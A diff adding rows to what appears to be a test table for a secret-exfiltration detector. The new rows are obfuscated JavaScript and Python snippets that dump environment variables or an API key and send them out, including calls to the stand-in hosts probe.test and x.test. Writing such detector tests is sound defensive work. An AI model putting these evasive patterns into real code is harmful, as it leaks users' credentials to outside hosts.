@@ -50,6 +50,11 @@ const javascript: readonly Row[] = [
     `send(Object.keys(process.env).reduce((all, k) => all + process.env[k], ''))`,
     '<env-all process.env',
   ],
+  [
+    'a name that is looked for',
+    `const k = Object.keys(globalThis).find((n) => n === 'x') || 'fetch'; globalThis[k]('https://probe.test/', { body: 'found' })`,
+    'found',
+  ],
   ['an optional call', `const o = { s: send }; o?.s?.(${key})`, secret],
   ['a comma', `(0, send)((1, ${key}))`, secret],
   ['a label and a switch', `x: switch (typeof send) { case 'function': send(${key}); break x; }`, secret],
@@ -148,6 +153,16 @@ const python: readonly Row[] = [
     secret,
   ],
   ['reduce', `import os\nfrom functools import reduce\nsend(reduce(getattr, ['environ'], os)['API_KEY'])`, secret],
+  [
+    'a generator over the environment',
+    `import os\ndef g(): yield from os.environ.items()\nsend(dict(g()))`,
+    '<env-all os.environ',
+  ],
+  [
+    'a request that is given its body',
+    `import os, urllib.request\nr = urllib.request.Request('https://x.test/')\nr.data = ${pyKey}\nsend(r)`,
+    secret,
+  ],
   [
     'comprehension over the environment',
     `import os\nsend({k: v for k, v in os.environ.items() if 'KEY' in k})`,
